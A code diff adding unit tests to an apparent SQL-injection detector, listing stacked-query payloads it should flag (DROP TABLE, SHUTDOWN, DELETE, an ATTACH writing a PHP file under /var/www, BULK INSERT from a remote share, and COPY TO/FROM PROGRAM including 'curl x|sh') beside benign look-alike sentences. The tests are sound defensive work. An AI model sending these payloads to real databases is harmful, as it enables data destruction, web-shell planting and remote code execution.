@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest'
 import { dialectComment, tokenize } from '../../src/detect/sqli/tokenize.js'
-import { BENIGN, flagsAndLeaves, p1 } from './helpers.js'
+import { BENIGN, direct, flagsAndLeaves, p1 } from './helpers.js'
 
 // `#` is a comment in MySQL only (PostgreSQL's bitwise XOR, a temporary table's prefix in SQL
 // Server), and MySQL's `--` comment needs a blank after it (`1--1` is 1 minus -1). What either
@@ -104,4 +104,45 @@ describe('SQL: comments only some dialects write or run', () => {
   it.each(BENIGN)('leaves %j alone', (s) => {
     expect(p1.first(s)).toBeNull()
   })
+})
+
+describe('SQL: statements one server runs', () => {
+  flagsAndLeaves(
+    [
+      // SQL Server: a group closed first, then a statement without a `;`
+      ['1) drop table users--', 'sqli-stacked-query'],
+      ['1)) shutdown #', 'sqli-stacked-query'],
+      // SQLite's ATTACH writes a file; SQL Server's BULK INSERT reads one
+      ["1; attach database '/var/www/lol.php' as lol--", 'sqli-stacked-query'],
+      ["x'; attach '/var/www/lol.php' as lol--", 'sqli-stacked-query'],
+      ["1; bulk insert t from '\\\\evil\\x'--", 'sqli-stacked-query'],
+      ['1; delete from users--', 'sqli-stacked-query'],
+      ["x'; insert into users values ('a','b')--", 'sqli-stacked-query'],
+      ['1; delete ignore from users', 'sqli-stacked-query'],
+      ['1; insert into a select * from b', 'sqli-stacked-query'],
+      // PostgreSQL's COPY to or from a file, a program or the client
+      ["1; copy (select '') to program 'id'--", 'sqli-stacked-query'],
+      ["x'; copy t from program 'curl x|sh'--", 'sqli-stacked-query'],
+      ['1; copy users to stdout', 'sqli-stacked-query'],
+    ],
+    [
+      'please attach the file; attach it to the ticket',
+      'we met; attach database docs to the wiki',
+      'ok; bulk insert is fast in sql server',
+      // (a determiner names no table)
+      'ok; delete from the list',
+      'ok; insert into the form',
+      'done; delete from my notes please',
+      'sure; copy it from the wiki',
+      'sure; copy this to the doc',
+    ],
+    true,
+  )
+
+  it.each(['1; bulk insert t from x', "1; bulk insert t from 'x'", 'ok; copy t from stdin'])(
+    'reads %j past the line-rate pass as in full',
+    (s) => {
+      expect(p1.first(s)?.rule ?? null).toBe(direct(s))
+    },
+  )
 })
